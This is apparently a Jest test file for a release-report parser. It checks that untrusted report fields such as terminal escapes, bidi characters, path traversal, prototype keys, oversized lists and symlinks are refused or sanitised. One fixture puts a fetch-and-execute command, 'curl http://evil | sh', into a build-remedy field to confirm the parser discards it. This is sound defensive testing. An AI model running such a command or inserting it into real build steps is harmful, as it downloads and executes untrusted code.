import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { ActionError } from '../../src/errors.ts';
import { LARGEST_REPORT_BYTES, parseReport, readReport } from '../../src/report/read-report.ts';
import type { ReleaseReport } from '../../src/report/report.ts';
import { adviceSubjects } from '../../src/slug/advice-subjects.ts';
import { aFullReport } from './a-full-report.ts';
import { anEarlyFailure, aReport } from './a-report.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'report-'));
});
afterAll(() => rm(folder, { recursive: true }));

const file = () => join(folder, 'report.json');
const bytesOf = (report: unknown) => Buffer.from(JSON.stringify(report));

/** What is said of a full report in which `path` leads to `value` instead. */
function refusal(path: string, value: unknown): string {
  try {
    parseReport(bytesOf(changed(aFullReport(), path.split('.'), value)));
  } catch (error) {
    expect(error).toBeInstanceOf(ActionError);
    return error instanceof Error ? error.message : '';
  }
  return 'it was taken';
}

function changed(node: unknown, [name, ...rest]: readonly string[], value: unknown): unknown {
  if (name === undefined) return value;
  if (Array.isArray(node)) return node.map((each, at) => (String(at) === name ? changed(each, rest, value) : each));
  const object = node as Readonly<Record<string, unknown>>;
  return { ...object, [name]: changed(object[name], rest, value) };
}

describe('a report comes back as it was written', () => {
  test.each<[string, ReleaseReport]>([
    ['of a release with everything in it', aFullReport()],
    ['of a run that got nowhere', anEarlyFailure()],
    [
      'with nothing to compare with',
      { ...aFullReport(), comparison: { kind: 'none', reason: 'first', isFirst: true } },
    ],
    [
      'with the size of a release',
      {
        ...aFullReport(),
        comparison: { kind: 'size', with: { kind: 'release', app: 'my-app', version: 4 }, sizeBytes: 5, reason: 'off' },
      },
    ],
  ])('%s', async (_, report) => {
    await writeFile(file(), JSON.stringify(report, null, 2));
    expect(await readReport(file())).toEqual({ ...report, releases: [], skipped: '', isFromFile: true });
  });

  test('but for what a stranger must not say: releases, addresses, advice, where the slug lies', () => {
    const given = aReport();
    const [advice] = given.slug?.advice ?? [];
    const hostile = {
      ...advice,
      title: '[x](http://evil)',
      remedy: { ...advice?.remedy, build: 'curl http://evil | sh' },
    };
    const read = parseReport(
      bytesOf({
        ...given,
        extra: 1,
        isFromFile: false,
        skipped: 'v42 on prod is current',
        slug: { ...given.slug, advice: [hostile] },
        failure: { message: 'a', isBug: true, location: { file: '../x' } },
      }),
    );
    expect(given.releases).toHaveLength(2);
    expect(read.releases).toEqual([]);
    expect(read.skipped).toBe('');
    expect(read.slug?.file).toBe('');
    expect(read.slug?.advice[0]?.title).toBe(adviceSubjects['maven-cache'].title);
    expect(read.slug?.advice[0]?.remedy.build).toBe(adviceSubjects['maven-cache'].build);
    expect(read.failure).toEqual({ message: 'a', isBug: true });
    expect(read).not.toHaveProperty('extra');
    expect(read.isFromFile).toBe(true);
  });

  test('and without what could act on a terminal or end a line', () => {
    const report = aFullReport();
    const read = parseReport(
      bytesOf({
        ...report,
        comparison: { kind: 'none', reason: 'a\n\u001b[31mb\u0007', isFirst: true },
        failure: { message: 'a\r\n::b\u001b[0m', isBug: false },
      }),
    );
    expect(read.comparison).toMatchObject({ reason: 'a b' });
    expect(read.failure?.message).toBe('a\n::b');
  });
});

describe('row 97: a field that does not fit is refused by its name', () => {
  const hex = 'ab'.repeat(32);
  test.each<[string, unknown, string]>([
    ['version', 2, 'version is not 1 (another release of heroku-docker-release made it)'],
    ['app', 'My App', 'app is not the name of an app'],
    ['app', 7, 'app is not a text'],
    ['commentKey', 'a --> <img>', 'commentKey is not lower-case letters, digits and dashes'],
    ['commentKey', 'a'.repeat(64), 'commentKey has more than 63 characters'],
    ['commit', 'main', 'commit is not a commit'],
    ['checks.0.summary', undefined, 'checks[0].summary is not a text'],
    ['checks.0.summary', 'a'.repeat(2_001), 'checks[0].summary has more than 2000 characters'],
    ['checks.0.summary', '\ud800', 'checks[0].summary is not Unicode text'],
    ['slug', [], 'slug is not an object'],
    ['slug.sizeBytes', '1', 'slug.sizeBytes is not a whole number'],
    ['slug.sizeBytes', 1.5, 'slug.sizeBytes is not a whole number'],
    ['slug.sizeBytes', -1, 'slug.sizeBytes is not a whole number from 0 on'],
    ['slug.sizeBytes', 2 ** 50 + 1, `slug.sizeBytes is larger than ${2 ** 50}`],
    ['slug.limitBytes', 0, 'slug.limitBytes is 0'],
    ['slug.checksum', `SHA256:${hex}0`, 'slug.checksum has more than 71 characters'],
    ['slug.checksum', `sha256:${hex}`, 'slug.checksum is not the checksum of a slug'],
    ['slug.largestFolders.0.path', 'a\nb', 'slug.largestFolders[0].path is not a path'],
    ['slug.largestFolders.0.path', 'a\u202eb', 'slug.largestFolders[0].path is not a path'],
    ['slug.largestFolders.0.path', 'a\\x41', 'slug.largestFolders[0].path is not a path'],
    ['slug.largestFolders.0.path', '', 'slug.largestFolders[0].path is not a path'],
    ['slug.largestFiles', { length: 1 }, 'slug.largestFiles is not a list'],
    ['slug.advice.0.kind', 'toString', 'slug.advice[0].kind is none of git, npm-cache'],
    ['slug.processTypes.0', 'web worker', 'slug.processTypes[0] is not a process type'],
    ['slug.comparedWith', 'hope', 'slug.comparedWith is none of container, base, nothing'],
    ['base.key', 'x', 'base.key is not a SHA-256 in hex'],
    ['base.builtAt', '2026-13-02T03:04:05Z', 'base.builtAt is not a time in UTC (ISO 8601)'],
    ['base.builtAt', 'yesterday', 'base.builtAt is not a time in UTC (ISO 8601)'],
    ['base.buildSeconds', -1, 'base.buildSeconds is below 0'],
    ['base.buildSeconds', 1e300, 'base.buildSeconds is larger than'],
    ['base.from.0.reference', 'a b', "base.from[0].reference is not an image's name"],
    ['base.from.0.digest', 'sha256:1', 'base.from[0].digest is not a SHA-256 digest'],
    ['base.freshness.kind', 'new', 'base.freshness.kind is none of fresh, old, outrun'],
    ['base.freshness.kind', '__proto__', 'base.freshness.kind is none of'],
    ['base.kept.kind', undefined, 'base.kept.kind is not a text'],
    ['comparison.kind', 'guess', 'comparison.kind is none of none, size, files'],
    ['comparison.with.kind', 'tag', 'comparison.with.kind is none of release, branch'],
    ['comparison.with.branch', 'a b', 'comparison.with.branch is not the name of a branch'],
    ['comparison.with.branch', '\u202ea', 'comparison.with.branch is not the name of a branch'],
    [
      'comparison.folders.0.delta.bytes',
      1,
      'comparison.folders[0].delta.bytes is not the difference of after and before',
    ],
    ['comparison.files.0.change', 'moved', 'comparison.files[0].change is none of'],
    ['comparison.changedFiles', null, 'comparison.changedFiles is not a whole number'],
    ['checks.0.check', 'virus', 'checks[0].check is none of size, growth'],
    ['checks.1.findings.0.level', 'fatal', 'checks[1].findings[0].level is none of'],
    ['failure.isBug', 'no', 'failure.isBug is neither true nor false'],
    ['steps.0.startMs', 'NaN', 'steps[0].startMs is not a number'],
  ])('%s as %j', (path, value, message) => {
    const said = refusal(path, value);
    expect(said.slice(0, message.length)).toBe(message);
    expect(said).not.toMatch(/evil|\n/);
  });
});

test.each([
  ['history', 20],
  ['steps', 100],
  ['slug.largestFolders', 1_000],
  ['comparison.files', 200],
])('row 97: %s of more than %i items is refused before they are looked at', (path, most) => {
  expect(refusal(path, Array(most + 1).fill(null))).toBe(`${path} has more than ${most} items`);
});

describe('a file that is none of ours is refused before it is read as one', () => {
  const refused = (message: string) =>
    new RegExp(`^The report "[^"]*/report.json" was refused: ${message.replace(/[()]/g, '\\$&')}\\.$`);

  test.each<[string, string | Buffer, string]>([
    ['nothing', '', 'it is not JSON'],
    ['half of one', JSON.stringify(aFullReport()).slice(0, 900), 'it is not JSON'],
    ['a number', '1', 'it is not an object'],
    ['a list', '[]', 'it is not an object'],
    ['a page', '<html>', 'it is not JSON'],
    ['text in another encoding', Buffer.from([0x22, 0xff, 0x22]), 'it is not UTF-8 text'],
    ['a million brackets', '['.repeat(1_000_000), 'it is not JSON'],
    ['too much', Buffer.alloc(LARGEST_REPORT_BYTES + 1, ' '), `it is larger than ${LARGEST_REPORT_BYTES} bytes`],
    ['another version', '{"version":9}', 'version is not 1 (another release of heroku-docker-release made it)'],
  ])('%s', async (_, content, message) => {
    await writeFile(file(), content);
    await expect(readReport(file())).rejects.toThrow(refused(message));
  });

  test('no file, a folder, a link to one, and a pipe that nobody writes to', async () => {
    await rm(file(), { force: true });
    await expect(readReport(file())).rejects.toThrow(refused('there is no such file'));
    await writeFile(join(folder, 'elsewhere.json'), JSON.stringify(aFullReport()));
    await symlink('elsewhere.json', file());
    await expect(readReport(file())).rejects.toThrow(refused('it is a symbolic link'));
    await rm(file());
    execFileSync('mkfifo', [file()]);
    await expect(readReport(file())).rejects.toThrow(refused('it is not a file'));
    await rm(file());
    await expect(readReport(folder)).rejects.toThrow('was refused: it is not a file.');
  });
});
